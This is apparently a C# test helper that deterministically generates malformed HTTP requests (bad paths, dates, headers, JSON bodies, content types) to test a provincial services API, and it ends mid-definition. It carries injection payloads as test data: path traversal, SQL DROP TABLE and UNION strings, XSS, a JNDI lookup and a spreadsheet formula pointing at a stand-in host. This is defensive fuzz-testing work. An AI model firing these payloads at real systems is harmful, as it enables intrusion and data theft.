using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using ProvincePlatform.Host.Tests.Support;

namespace ProvincePlatform.Host.Tests.Hostile;

/// <summary>
/// Generates malformed requests for every route it is given, deterministically from a seed: hostile route ids
/// (path traversal, control characters, invalid UTF-8, injection fragments, huge values), methods a route does not
/// take, bad query strings and headers, and for every route with a body: broken JSON (truncated, invalid UTF-8,
/// wrong roots, deep nesting, duplicated and unknown members, comments), wrong content types, bodies over the size
/// limit, and each member of the body in turn given values of the wrong type, out of range or refused as text.
/// Routes it knows the body of get member-by-member mutations; any other route still gets everything else.
/// Every request is invalid unless marked <see cref="HostileRequest.MayBeValid"/>.
/// </summary>
public sealed class HostileRequestGenerator(HostileTargets targets, int seed)
{
    private const string Placeholder = "HOSTILE-VALUE-PLACEHOLDER";
    private const int BodyLimit = 64 * 1024;

    private readonly Random _random = new(seed);
    private readonly List<HostileRequest> _requests = [];

    /// <summary>What a JSON member holds, which decides the values that are wrong for it.</summary>
    private enum Kind
    {
        /// <summary>Text where anything printable is valid: names, addresses, reasons.</summary>
        FreeText,

        /// <summary>Text with a shape of its own: ID numbers, phones, service codes, form choices and dates.</summary>
        Code,
        Enum,
        Count,
        Minutes,
        Flag,
        Date,
        Time,
        Days,
        Weekday,
        Citizen,
        Periods,
        Period,
        Form,

        /// <summary>A rollout stage: notStarted, preparing, piloting, active or paused.</summary>
        Stage,

        /// <summary>A list of commune codes.</summary>
        Codes,

        /// <summary>An object of the rollout template: the template itself or one of its parts.</summary>
        TemplatePart,

        /// <summary>How many village houses a rollout opens in each commune: 0 to 30.</summary>
        HouseCount,
    }

    private sealed record Member(string Path, Kind Kind, bool Required = true);

    private sealed record Shape(string Name, Func<JsonNode> Valid, IReadOnlyList<Member> Members);

    public IReadOnlyList<HostileRequest> Generate(IReadOnlyList<ApiRoute> routes)
    {
        _requests.Clear();
        foreach (var route in routes)
        {
            PathMutations(route);
            MethodMutations(route, routes);
            QueryMutations(route);
            HeaderMutations(route);
            if (route.TakesBody)
            {
                BodyMutations(route);
            }
        }

        return [.. _requests];
    }

    // ---- Paths -------------------------------------------------------------------------------------------------

    /// <summary>Route ids as an attacker writes them, already percent-encoded as they go on the wire.</summary>
    private static readonly (string Segment, string What)[] s_hostileSegments =
    [
        ("..%2F..%2F..%2F..%2Fetc%2Fpasswd", "path traversal with encoded slashes"),
        ("..%5C..%5C..%5Cwindows%5Cwin.ini", "path traversal with encoded backslashes"),
        ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path traversal with encoded dots and slashes"),
        ("%252e%252e%252fetc%252fpasswd", "double-encoded path traversal"),
        ("%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "path traversal in overlong UTF-8"),
        ("..%3B%2Fetc%2Fpasswd", "path traversal with a semicolon"),
        ("%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "encoded dot segments"),
        ("../../../../../etc/passwd", "dot segments"),
        ("%00", "NUL"),
        ("20527-1%00", "an id followed by NUL"),
        ("%0D%0ASet-Cookie:%20hostile=1", "CR LF and a header"),
        ("%1B%5B31m", "an ANSI escape sequence"),
        ("%7F", "DEL"),
        ("%C2%85", "the C1 control NEL"),
        ("%C2%9F", "the C1 control APC"),
        ("%E2%80%AE", "a right-to-left override"),
        ("%EF%BF%BE", "the noncharacter U+FFFE"),
        ("%EF%BF%BF", "the noncharacter U+FFFF"),
        ("%ED%A0%80", "a lone surrogate in UTF-8"),
        ("%FF%FE%FD", "bytes that are not UTF-8"),
        ("%F4%90%80%80", "a code point above U+10FFFF"),
        ("%27%20OR%201%3D1%20--", "an SQL fragment"),
        ("1%3B%20DROP%20TABLE%20orleansstorage%3B--", "an SQL statement"),
        ("%27%20UNION%20SELECT%20*%20FROM%20citizens--", "an SQL union"),
        ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "a script element"),
        ("%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "an HTML attribute injection"),
        ("%24%7Bjndi%3Aldap%3A%2F%2Fhostile%2Fa%7D", "a JNDI lookup"),
        ("%7B%7B7*7%7D%7D", "a template expression"),
        ("-1", "a negative number"),
        ("0", "zero"),
        ("-99999999999", "a large negative number"),
        ("99999999999999999999999999999999", "a huge number"),
        ("1e309", "a number that overflows a double"),
        ("NaN", "NaN"),
        (new string('9', 2_000), "2,000 digits"),
        (new string('a', 3_000), "3,000 letters"),
        ("20527-" + new string('1', 1_000), "a help-point-like id with a 1,000-digit sequence"),
        ("%20", "a space"),
        ("%09", "a tab"),
        ("%20%20%20", "spaces"),
        ("null", "the word null"),
        ("undefined", "the word undefined"),
        ("%7B%7D", "an empty JSON object"),
        ("%5B%5D", "an empty JSON array"),
        ("*", "an asterisk"),
        ("%25", "a percent sign"),
        ("%25%32%65", "an encoded percent-escape"),
        ("%F0%9F%98%80", "an emoji"),
        ("X%C3%A3%CC%83", "combining marks"),
        ("CON", "a reserved device name"),
        ("20527-1;x=1", "matrix parameters"),
    ];

    private void PathMutations(ApiRoute route)
    {
        var body = route.TakesBody ? ValidBodyBytes(route) : null;
        foreach (var parameter in route.Parameters)
        {
            foreach (var (segment, what) in s_hostileSegments)
            {
                Add(new HostileRequest(route, $"{parameter} is {what}", PathOf(route, replace: (parameter, segment))) { Body = body });
            }
        }

        // Whatever its parameters, no route answers for what follows it.
        foreach (var (suffix, what) in new[]
        {
            ("/%00", "a NUL segment after the route"),
            ("/..%2F..%2Fetc%2Fpasswd", "a traversal segment after the route"),
            ("/extra", "an extra segment"),
            (";jsessionid=hostile", "a path parameter after the route"),
            ("%00", "NUL after the route"),
            ("/" + new string('x', 3_000), "a 3,000-character segment after the route"),
            ("/%EF%BF%BE", "a noncharacter segment after the route"),
            ("/%ED%A0%80", "a lone surrogate segment after the route"),
            ("/%27%20OR%201%3D1--", "an SQL segment after the route"),
            ("/%3Cscript%3E", "a script segment after the route"),
            ("/-1", "a negative number after the route"),
            ("/99999999999999999999", "a huge number after the route"),
        })
        {
            Add(new HostileRequest(route, what, PathOf(route) + suffix) { Body = body });
        }
    }

    private static readonly string[] s_methods = ["GET", "POST", "PUT", "DELETE", "PATCH", "PROPFIND"];

    /// <summary>Methods the route's template does not take (HEAD is left out: its answer has no body to be a problem).</summary>
    private void MethodMutations(ApiRoute route, IReadOnlyList<ApiRoute> routes)
    {
        var taken = routes.Where(other => other.Template == route.Template).Select(other => other.Method).ToList();
        if (taken[0] != route.Method)
        {
            // One set of wrong methods per template, sent with the first route of the template.
            return;
        }

        foreach (var method in s_methods.Where(method => !taken.Contains(method)))
        {
            Add(new HostileRequest(route, $"method {method}, which the route does not take", PathOf(route))
            {
                Method = method,
                Body = method is "GET" or "DELETE" ? null : Utf8("{}"),
            });
        }
    }

    // ---- Query strings -----------------------------------------------------------------------------------------

    /// <summary>Values no date filter takes: <c>yyyy-MM-dd</c> only, and a real day.</summary>
    private static readonly (string Value, string What)[] s_badDates =
    [
        ("2026-02-30", "30 February"),
        ("2026-13-01", "month 13"),
        ("0000-01-01", "year 0"),
        ("-2026-01-01", "a negative year"),
        ("%2B2026-12-01", "a signed year"),
        ("2026-1-1", "unpadded"),
        ("20261201", "without dashes"),
        ("2026-12-01T00%3A00", "with a time"),
        ("01%2F12%2F2026", "dd/MM/yyyy"),
        ("yesterday", "a word"),
        ("2026-12-01%00", "followed by NUL"),
        ("2026-12-01%20", "followed by a space"),
        ("%27%20OR%201%3D1--", "an SQL fragment"),
        ("%3Cscript%3E", "a script element"),
        (new string('2', 5_000), "5,000 digits"),
        ("%EF%BF%BE", "the noncharacter U+FFFE"),
        ("%D9%A2%D9%A0%D9%A2%D9%A6-%D9%A1%D9%A2-%D9%A0%D9%A1", "Arabic-Indic digits"),
    ];

    /// <summary>Values no page number or page size takes.</summary>
    private static readonly (string Value, string What)[] s_badWholeNumbers =
    [
        ("0", "zero"),
        ("-1", "negative"),
        ("-2147483649", "below int.MinValue"),
        ("2147483648", "above int.MaxValue"),
        ("99999999999999999999", "huge"),
        ("1e3", "an exponent"),
        ("1.5", "a fraction"),
        ("0x10", "hexadecimal"),
        ("abc", "letters"),
        ("%201", "a leading space"),
        ("1%00", "followed by NUL"),
        ("%EF%BC%91", "a fullwidth digit"),
        ("%D9%A1", "an Arabic-Indic digit"),
        ("%27%20OR%201%3D1--", "an SQL fragment"),
        ("NaN", "NaN"),
    ];

    /// <summary>Control characters, malformed Unicode and over-long text, which no filter takes.</summary>
    private static readonly (string Value, string What)[] s_badTextQuery =
    [
        ("%00", "NUL"),
        ("a%07b", "BEL"),
        ("%1B%5B31m", "an ANSI escape sequence"),
        ("a%0Ab", "a line feed"),
        ("a%0D%0Ab", "CR LF"),
        ("%09a", "a tab"),
        ("a%7F", "DEL"),
        ("%C2%85a", "the C1 control NEL"),
        ("a%C2%9F", "the C1 control APC"),
        (new string('a', 5_000), "5,000 characters"),
    ];

    /// <summary>Noncharacters: refused where the text is searched, harmless where it is only compared.</summary>
    private static readonly (string Value, string What)[] s_noncharactersQuery =
    [
        ("%EF%BF%BE", "the noncharacter U+FFFE"),
        ("%EF%BF%BF", "the noncharacter U+FFFF"),
    ];

    /// <summary>Text that is harmless as text: a filter holding it is a filter that finds nothing.</summary>
    private static readonly (string Value, string What)[] s_injectionQuery =
    [
        ("%27%20OR%201%3D1%20--", "an SQL fragment"),
        ("1%3B%20DROP%20TABLE%20orleansstorage%3B--", "an SQL statement"),
        ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "a script element"),
        ("..%2F..%2F..%2Fetc%2Fpasswd", "path traversal"),
        ("%24%7Bjndi%3Aldap%3A%2F%2Fhostile%2Fa%7D", "a JNDI lookup"),
        ("%ED%A0%80", "a lone surrogate in UTF-8, which decodes to U+FFFD"),
        ("%E2%80%AE", "a right-to-left override"),
        ("Xa%CC%83", "combining marks"),
    ];

    private void QueryMutations(ApiRoute route)
    {
        switch (route.ToString())
        {
            case "GET /api/v1/communes":
                Query(route, "district", [.. s_badTextQuery, .. s_noncharactersQuery, .. s_injectionQuery, ("", "empty"), ("20527", "a commune code")]);
                Query(route, "q", [.. s_badTextQuery, .. s_noncharactersQuery, (new string('a', 101), "101 characters")]);
                Query(route, "q", s_injectionQuery, mayBeValid: true);
                Add(new HostileRequest(route, "district given twice", PathOf(route) + "?district=1&district=2"));
                break;
            case "GET /api/v1/help-points/{helpPointId}/sessions":
                Query(route, "from", s_badDates);
                Query(route, "to", s_badDates);
                var today = ParseDate(targets.SessionId[..10]).AddDays(-1);
                foreach (var (from, to, what) in new[]
                {
                    (today.AddDays(10), today, "to before from"),
                    (today, today.AddDays(62), "63 days"),
                    (today, today.AddDays(10_000), "10,000 days"),
                    (today.AddDays(-400), today.AddDays(-390), "more than a year ago"),
                    (today.AddDays(400), today.AddDays(401), "more than a year ahead"),
                    (DateOnly.MinValue, DateOnly.MinValue, "0001-01-01"),
                    (DateOnly.MaxValue, DateOnly.MaxValue, "9999-12-31"),
                })
                {
                    Add(new HostileRequest(route, $"a range of {what}", $"{PathOf(route)}?from={DateText(from)}&to={DateText(to)}"));
                }

                Add(new HostileRequest(route, "from 9999-12-31 without to", $"{PathOf(route)}?from=9999-12-31"));
                break;
            case "GET /api/v1/communes/{communeCode}/requests":
                Query(route, "status", [("DRAFT", "upper case"), ("draft%00", "followed by NUL"), ("1", "a number"), ("-1", "negative"),
                    ("", "empty"), ("draft,submitted", "a list"), .. s_badTextQuery, .. s_noncharactersQuery, .. s_injectionQuery]);
                Query(route, "from", s_badDates);
                Query(route, "to", s_badDates);
                Query(route, "page", [.. s_badWholeNumbers, ("100001", "above the last page")]);
                Query(route, "pageSize", [.. s_badWholeNumbers, ("101", "above the largest page")]);
                Add(new HostileRequest(route, "to before from", $"{PathOf(route)}?from=2026-12-10&to=2026-12-01"));
                break;
            case "GET /api/v1/audit":
                Query(route, "from", [.. s_badDates, ("1999-12-31", "before 2000")]);
                Query(route, "to", [.. s_badDates, ("9999-12-31", "the last day of the calendar")]);
                foreach (var filter in new[] { "client", "communeCode", "resource" })
                {
                    Query(route, filter, [.. s_badTextQuery, ("", "empty"), (new string('r', 201), "201 characters")]);
                    Query(route, filter, [.. s_injectionQuery, .. s_noncharactersQuery], mayBeValid: true);
                }

                Query(route, "page", [.. s_badWholeNumbers, ("100001", "above the last page")]);
                Query(route, "pageSize", [.. s_badWholeNumbers, ("501", "above the largest page")]);
                break;
            case "GET /api/v1/communes/{communeCode}/stats":
                StatsRangeMutations(route);
                break;
            case "GET /api/v1/province/stats":
                StatsRangeMutations(route);
                Query(route, "district", [.. s_badTextQuery, .. s_noncharactersQuery, .. s_injectionQuery, ("", "empty"), ("20527", "a commune code")]);
                break;
            case "GET /api/v1/province/rollout":
                Query(route, "district", [.. s_badTextQuery, .. s_noncharactersQuery, .. s_injectionQuery, ("", "empty"), ("20527", "a commune code")]);
                break;
            default:
                break;
        }

        if (route.Method == "GET")
        {
            // Parameters no route reads are ignored; these make sure ignoring them is all that happens.
            foreach (var (value, what) in new[] { s_injectionQuery[0], s_injectionQuery[2], s_badTextQuery[0], (new string('q', 5_000), "5,000 characters") })
            {
                Add(new HostileRequest(route, $"an unknown query parameter holding {what}", $"{PathOf(route)}?hostile={value}") { MayBeValid = true });
            }
        }
    }

    /// <summary>Stats take any range of up to 366 days, however far back or ahead, within the years a calendar can count weeks in.</summary>
    private void StatsRangeMutations(ApiRoute route)
    {
        Query(route, "from", s_badDates);
        Query(route, "to", s_badDates);
        var today = ParseDate(targets.SessionId[..10]).AddDays(-1);
        foreach (var (from, to, what) in new[]
        {
            (today.AddDays(10), today, "to before from"),
            (today, today.AddDays(366), "367 days"),
            (today, today.AddDays(10_000), "10,000 days"),
            (DateOnly.MinValue, DateOnly.MinValue, "0001-01-01"),
            (DateOnly.MaxValue, DateOnly.MaxValue, "9999-12-31"),
            (DateOnly.MaxValue.AddDays(-3), DateOnly.MaxValue, "the last days of the calendar"),
        })
        {
            Add(new HostileRequest(route, $"a range of {what}", $"{PathOf(route)}?from={DateText(from)}&to={DateText(to)}"));
        }

        foreach (var (from, to, what) in new[]
        {
            (today.AddDays(-400), today.AddDays(-390), "more than a year ago"),
            (today.AddDays(400), today.AddDays(401), "more than a year ahead"),
        })
        {
            Add(new HostileRequest(route, $"a range of {what}", $"{PathOf(route)}?from={DateText(from)}&to={DateText(to)}") { MayBeValid = true });
        }

        Add(new HostileRequest(route, "from 9999-12-31 without to", $"{PathOf(route)}?from=9999-12-31"));
        Add(new HostileRequest(route, "to 9999-12-31 without from", $"{PathOf(route)}?to=9999-12-31"));
        Add(new HostileRequest(route, "to 0001-01-01 without from", $"{PathOf(route)}?to=0001-01-01"));
        Add(new HostileRequest(route, "from given twice", $"{PathOf(route)}?from={DateText(today)}&from={DateText(today)}"));
    }

    private void Query(ApiRoute route, string name, IEnumerable<(string Value, string What)> values, bool mayBeValid = false)
    {
        foreach (var (value, what) in values)
        {
            Add(new HostileRequest(route, $"query {name} is {what}", $"{PathOf(route)}?{name}={value}") { MayBeValid = mayBeValid });
        }
    }

    // ---- Headers -----------------------------------------------------------------------------------------------

    private void HeaderMutations(ApiRoute route)
    {
        if (route.ToString() != "POST /api/v1/requests/{requestId}/submit")
        {
            return;
        }

        // Header values go out byte for byte (see HostileRequest.Headers): "\u00C2\u0085" is NEL in UTF-8. The client
        // refuses CR, LF and NUL, so those never reach the server.
        foreach (var (key, what) in new[]
        {
            ("a\tb", "holding a tab"),
            ("a\u0001b", "holding SOH"),
            ("\u001b[31m", "holding an ANSI escape"),
            ("key\u007f", "holding DEL"),
            ("key\u00C2\u0085", "holding the C1 control NEL"),
            ("\u00EF\u00BF\u00BE", "holding the noncharacter U+FFFE"),
            ("a\u00E2\u0080\u00AEb", "holding a right-to-left override"),
            (new string('k', 201), "201 characters"),
            (new string('k', 5_000), "5,000 characters"),
        })
        {
            Add(new HostileRequest(route, $"Idempotency-Key {what}", PathOf(route)) { Headers = [new("Idempotency-Key", key)] });
        }

        // Kestrel reads header values as UTF-8 and refuses, with a bare 400, those that are not.
        foreach (var (key, what) in new[] { ("\u00FF\u00FE", "the bytes FF FE"), ("a\u00E9b", "a Latin-1 é") })
        {
            Add(new HostileRequest(route, $"Idempotency-Key holding {what}, which is not UTF-8", PathOf(route))
            {
                Headers = [new("Idempotency-Key", key)],
                RefusedByKestrel = true,
            });
        }

        foreach (var (key, what) in new[]
        {
            ("' OR 1=1 --", "an SQL fragment"),
            ("<script>alert(1)</script>", "a script element"),
            ("../../../etc/passwd", "path traversal"),
            ("${jndi:ldap://hostile/a}", "a JNDI lookup"),
            ("\u00C3\u00A9t\u00C3\u00A9", "non-ASCII text"),
        })
        {
            Add(new HostileRequest(route, $"Idempotency-Key {what}, for a request that does not exist", PathOf(route, ghost: true))
            {
                Headers = [new("Idempotency-Key", key)],
            });
        }

        Add(new HostileRequest(route, "Idempotency-Key given twice", PathOf(route))
        {
            Headers = [new("Idempotency-Key", "a\u0001"), new("Idempotency-Key", "b\u0001")],
        });
    }

    // ---- Bodies ------------------------------------------------------------------------------------------------

    private void BodyMutations(ApiRoute route)
    {
        var shape = ShapeOf(route);
        var path = PathOf(route);
        if (shape is null && IsBodyless(route))
        {
            // The route reads no body: whatever is sent is ignored, at a target that does not exist.
            path = PathOf(route, ghost: true);
        }

        var valid = ValidBodyBytes(route);
        DocumentMutations(route, path, shape, valid);
        MediaTypeMutations(route, path, valid);
        SizeMutations(route, path);
        if (shape is not null)
        {
            foreach (var member in shape.Members)
            {
                MemberMutations(route, shape, member);
            }
        }
    }

    private void DocumentMutations(ApiRoute route, string path, Shape? shape, byte[] valid)
    {
        void Body(string what, byte[] body) => Add(new HostileRequest(route, what, path) { Body = body });

        if (!IsBodyless(route))
        {
            Add(new HostileRequest(route, "no body at all", path) { MediaType = null });
            Body("an empty body", []);
            Body("white space only", Utf8(" \r\n\t "));
        }

        foreach (var (json, what) in new[]
        {
            ("null", "null"), ("[]", "an array"), ("[{}]", "an array holding an object"), ("\"text\"", "a string"),
            ("42", "a number"), ("-1", "a negative number"), ("true", "true"), ("1e999", "a number that overflows"),
        })
        {
            Body($"a root that is {what}", Utf8(json));
        }

        if (shape is not null && shape.Name != "form")
        {
            Body("an empty object", Utf8("{}"));
        }

        // Truncated: any proper prefix of an object lacks its closing brace.
        foreach (var cut in Enumerable.Range(0, 8).Select(_ => _random.Next(1, valid.Length)).Distinct())
        {
            Body($"truncated after {cut} of {valid.Length} bytes", valid[..cut]);
        }

        var text = Encoding.UTF8.GetString(valid);
        var firstString = text.IndexOf(":\"", StringComparison.Ordinal) + 2;
        foreach (var (bytes, what) in new (byte[], string)[]
        {
            ([0xFF], "the byte FF"),
            ([0xC0, 0x80], "an overlong NUL"),
            ([0xC0, 0xAE], "an overlong dot"),
            ([0xED, 0xA0, 0x80], "a lone surrogate in UTF-8"),
            ([0xF4, 0x90, 0x80, 0x80], "a code point above U+10FFFF"),
            ([0xF8, 0x88, 0x80, 0x80, 0x80], "a five-byte sequence"),
            ([0x80], "a lone continuation byte"),
            ([0xE2, 0x82], "a truncated sequence"),
            ([0x00], "a raw NUL"),
            ([0x01], "a raw SOH"),
            ([0x0A], "a raw line feed"),
            ([0x1F], "a raw unit separator"),
        })
        {
            if (firstString > 1)
            {
                Body($"{what} inside a string", [.. valid[..firstString], .. bytes, .. valid[firstString..]]);
            }

            if (bytes is not [0x0A])
            {
                // A line feed between members is white space, which JSON allows.
                Body($"{what} between members", [.. valid[..1], .. bytes, .. valid[1..]]);
            }
        }

        foreach (var (garbage, what) in new[] { ("x", "a letter"), (" {}", "a second object"), ("]", "a bracket"), ("\0", "NUL") })
        {
            Body($"{what} after the document", [.. valid, .. Utf8(garbage)]);
        }

        Body("two byte order marks", [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, .. valid]);
        Body("a UTF-16 byte order mark", [0xFF, 0xFE, .. valid]);
        Body("a comment", Utf8("/* hostile */" + text));
        Body("a trailing comma", Utf8(text[..^1] + ",}"));
        Body("single quotes", Utf8(text.Replace('"', '\'')));
        Body("an unquoted member name", Utf8(UnquoteFirstName(text)));
        Body("a member without a value", Utf8("{\"a\":}"));
        Body("a member without a name", Utf8("{:1}"));

        foreach (var depth in new[] { 17, 64, 5_000 })
        {
            Body($"arrays nested {depth} deep", Utf8(new string('[', depth) + new string(']', depth)));
            Body($"objects nested {depth} deep",
                Utf8(string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth)));
        }

        var first = FirstMemberName(text);
        if (first is not null)
        {
            Body($"{first} repeated", Utf8(InsertMembers(text, $"{Quoted(first)}:{FirstMemberValue(text)}")));
            Body($"{first} repeated in upper case", Utf8(InsertMembers(text, $"{Quoted(first.ToUpperInvariant())}:{FirstMemberValue(text)}")));
            Body($"{first} nested 30 deep", Splice(text, first, Utf8(new string('[', 30) + new string(']', 30))));
        }

        foreach (var (member, what) in new[]
        {
            ("\"hostile\":1", "an unknown member"),
            ("\"__proto__\":{\"admin\":true}", "a __proto__ member"),
            ("\"constructor\":{\"prototype\":{}}", "a constructor member"),
            ("\"$type\":\"System.IO.FileInfo, System.IO.FileSystem\"", "a $type member"),
            ("\"$ref\":\"#\"", "a $ref member"),
            ("\"\":1", "a member with an empty name"),
            ("\"a\\u0000b\":1", "a member name holding NUL"),
            ("\"\\ud800\":1", "a member name holding a lone surrogate"),
            (Quoted(new string('m', 5_000)) + ":1", "a member with a 5,000-character name"),
            (string.Join(',', Enumerable.Range(0, 2_000).Select(i => $"\"m{i}\":{i}")), "2,000 unknown members"),
        })
        {
            if (shape?.Name == "form" && what is "an unknown member" or "a member with an empty name" or "2,000 unknown members")
            {
                // In a form every name is a field name, checked by the form's rules: covered by the form's members.
                continue;
            }

            Body(what, Utf8(InsertMembers(text, member)));
        }

        // Random bytes, never starting with '{', which cannot make a JSON object.
        for (var i = 0; i < 6; i++)
        {
            var bytes = new byte[_random.Next(1, 512)];
            _random.NextBytes(bytes);
            bytes[0] = (byte)_random.Next(0x7C, 0x100);
            Body($"{bytes.Length} random bytes (#{i})", bytes);
        }
    }

    private void MediaTypeMutations(ApiRoute route, string path, byte[] valid)
    {
        if (IsBodyless(route))
        {
            return;
        }

        foreach (var (mediaType, what) in new[]
        {
            ("text/plain", "text/plain"),
            ("application/xml", "application/xml"),
            ("application/x-www-form-urlencoded", "a form"),
            ("multipart/form-data; boundary=hostile", "multipart"),
            ("text/json", "text/json"),
            ("application/jsonx", "application/jsonx"),
            ("application/javascript", "application/javascript"),
            ("*/*", "*/*"),
            ("application/json, text/plain", "two media types"),
            (";;;", "semicolons"),
            ("application/" + new string('j', 2_000), "a 2,000-character media type"),
            ("application/json; charset=utf-16", "JSON declared as UTF-16"),
            ("application/json; charset=utf-32", "JSON declared as UTF-32"),
            ("application/json; charset=utf-7", "JSON declared as UTF-7"),
            ("application/json; charset=ebcdic-cp-us", "JSON declared as EBCDIC"),
            ("application/json; charset=nonsense", "JSON in an unknown charset"),
            ("application/json; charset=\"\"", "JSON in an empty charset"),
            ("application/json; charset=" + new string('c', 1_000), "JSON in a 1,000-character charset"),
        })
        {
            Add(new HostileRequest(route, $"content type {what}", path) { Body = valid, MediaType = mediaType });
        }

        Add(new HostileRequest(route, "no content type", path) { Body = valid, MediaType = null });
    }

    private void SizeMutations(ApiRoute route, string path)
    {
        var padding = new string('x', BodyLimit);
        Add(new HostileRequest(route, "a body one byte over the limit", path) { Body = Utf8("\"" + padding[..(BodyLimit - 1)] + "\"") });
        Add(new HostileRequest(route, "a body of 100 KiB", path) { Body = Utf8($"{{\"name\":\"{padding}{padding[..(36 * 1024)]}\"}}") });
        Add(new HostileRequest(route, "a chunked body of 80 KiB", path) { Body = Utf8($"{{\"name\":\"{padding}{padding[..(16 * 1024)]}\"}}"), Chunked = true });
    }

    private void MemberMutations(ApiRoute route, Shape shape, Member member)
    {
        foreach (var (json, what) in WrongValues(member))
        {
            AddMember(route, shape, member.Path, Utf8(json), $"{member.Path} is {what}", ghost: false);
        }

        if (member.Kind == Kind.FreeText)
        {
            // Valid as text, so sent where the target does not exist: read safely, then refused.
            foreach (var (json, what) in s_injectionText)
            {
                AddMember(route, shape, member.Path, Utf8(json), $"{member.Path} is {what}, at a target that does not exist", ghost: true);
            }
        }

        if (member.Kind is Kind.FreeText or Kind.Code)
        {
            foreach (var (bytes, what) in new (byte[], string)[]
            {
                ([0x22, 0xFF, 0x22], "the byte FF"),
                ([0x22, 0xED, 0xA0, 0x80, 0x22], "a lone surrogate in UTF-8"),
                ([0x22, 0x61, 0xC3, 0x22], "a truncated UTF-8 sequence"),
                ([0x22, 0xEF, 0xBF, 0xBE, 0x22], "the noncharacter U+FFFE in UTF-8"),
                ([0x22, 0x61, 0x09, 0x62, 0x22], "a raw tab"),
            })
            {
                AddMember(route, shape, member.Path, bytes, $"{member.Path} holds {what}", ghost: false);
            }
        }
    }

    private void AddMember(ApiRoute route, Shape shape, string path, byte[] value, string what, bool ghost)
    {
        Add(new HostileRequest(route, what, PathOf(route, ghost)) { Body = Splice(shape.Valid().ToJsonString(HttpJson.Options), path, value) });
    }

    // ---- Values ------------------------------------------------------------------------------------------------

    /// <summary>JSON that is not a string.</summary>
    private static readonly (string Json, string What)[] s_notText =
    [
        ("42", "a number"), ("-1", "a negative number"), ("1e309", "a number that overflows"), ("0.5", "a fraction"),
        ("true", "true"), ("[]", "an empty array"), ("[\"x\"]", "an array of strings"), ("{}", "an empty object"),
        ("{\"$ne\":null}", "a query operator object"),
    ];

    /// <summary>Strings the gateway refuses as text, whatever the member: control characters, malformed Unicode, over-long.</summary>
    private static readonly (string Json, string What)[] s_badText =
    [
        ("\"\\u0000\"", "NUL"),
        ("\"a\\u0007b\"", "BEL inside"),
        ("\"\\u001b[31mred\"", "an ANSI escape"),
        ("\"Nguyễn\\tThu\"", "a tab inside"),
        ("\"Nguyễn Thu\\n\"", "a trailing line feed"),
        ("\"\\r\\nNguyễn\"", "a leading CR LF"),
        ("\"a\\u007f\"", "DEL"),
        ("\"\\u0085a\"", "the C1 control NEL"),
        ("\"a\\u009fb\"", "the C1 control APC"),
        ("\"\\ud800\"", "a lone high surrogate"),
        ("\"\\udc00a\"", "a lone low surrogate"),
        ("\"a\\ud83d\"", "a high surrogate at the end"),
        ("\"\\ude00\\ud83d\"", "a surrogate pair the wrong way round"),
        ("\"\\ufffe\"", "the noncharacter U+FFFE"),
        ("\"a\\uffff\"", "the noncharacter U+FFFF"),
        ("\"\\ufdd0\"", "the noncharacter U+FDD0"),
        ("\"\\ud83f\\udffe\"", "the noncharacter U+1FFFE"),
        ("\"Nguy\\u202eễn\"", "a right-to-left override"),
        (Quoted(new string('a', 4_001)), "4,001 characters"),
        ("\"" + new string('ễ', 20_000) + "\"", "20,000 characters"),
    ];

    /// <summary>Fragments that attack whatever might interpret text: valid text, refused only where text has a shape.</summary>
    private static readonly (string Json, string What)[] s_injectionText =
    [
        (Quoted("' OR 1=1 --"), "an SQL fragment"),
        (Quoted("1; DROP TABLE orleansstorage; --"), "an SQL statement"),
        (Quoted("' UNION SELECT * FROM citizens --"), "an SQL union"),
        (Quoted("<script>alert(1)</script>"), "a script element"),
        (Quoted("\"><img src=x onerror=alert(1)>"), "an HTML attribute injection"),
        (Quoted("../../../../etc/passwd"), "path traversal"),
        (Quoted("${jndi:ldap://hostile/a}"), "a JNDI lookup"),
        (Quoted("{{7*7}}"), "a template expression"),
        (Quoted("=HYPERLINK(\"http://hostile\")"), "a spreadsheet formula"),
    ];

    /// <summary>Strings that are not the shape of any code: ID numbers, phones, service codes, choices, dates.</summary>
    private static readonly (string Json, string What)[] s_badCodes =
    [
        ("\"\"", "empty"),
        ("\" \"", "a space"),
        ("\"٠٤٩٠٩٠١٢٣٤٥٦\"", "Arabic-Indic digits"),
        ("\"０４９０９０１２３４５６\"", "fullwidth digits"),
        ("\"049090123456 \"", "digits and a trailing space"),
        ("\"-049090123456\"", "negative digits"),
        ("\"9999999999999999999999999\"", "25 digits"),
        ("\"null\"", "the word null"),
    ];

    private static (string Json, string What)[] WrongValues(Member member)
    {
        (string Json, string What)[] wrong = member.Kind switch
        {
            Kind.FreeText => [.. s_notText, .. s_badText],
            Kind.Code => [.. s_notText, .. s_badText, .. s_injectionText, .. s_badCodes],
            Kind.Enum =>
            [
                ("\"palace\"", "not a kind"), ("\"\"", "empty"),
                ("\"villageHouse, other\"", "two kinds"), ("\"villageHouse|other\"", "two kinds with a bar"), ("\"1\"", "a number in a string"),
                ("\"villageHouse\\u0000\"", "a kind and NUL"), ("0", "a number"), ("2", "a number"), ("-1", "negative"),
                ("true", "true"), ("[]", "an array"), ("{}", "an object"), .. s_injectionText.Take(3),
            ],
            Kind.Count or Kind.Minutes =>
            [
                ("\"3\"", "a number in a string"), ("3.5", "a fraction"), ("-1", "negative"), ("-2147483648", "int.MinValue"),
                ("2147483648", "above int.MaxValue"), ("-2147483649", "below int.MinValue"), ("99999999999999999999999", "huge"),
                ("1e2", "an exponent"), ("1E400", "an overflowing exponent"), ("true", "true"), ("[]", "an array"), ("{}", "an object"),
                ("\"NaN\"", "NaN in a string"), ("0.0", "zero as a fraction"),
                .. member.Kind == Kind.Count ? new[] { ("0", "zero"), ("201", "over 200"), ("-0", "minus zero") } : [("0", "zero"), ("99999", "huge")],
            ],
            Kind.Flag => [("\"true\"", "true in a string"), ("\"false\"", "false in a string"), ("1", "one"), ("0", "zero"),
                ("\"yes\"", "yes"), ("[]", "an array"), ("{}", "an object"), ("\"null\"", "null in a string")],
            Kind.Date =>
            [
                ("\"2026-02-30\"", "30 February"), ("\"0000-01-01\"", "year 0"), ("\"-2026-01-01\"", "a negative year"),
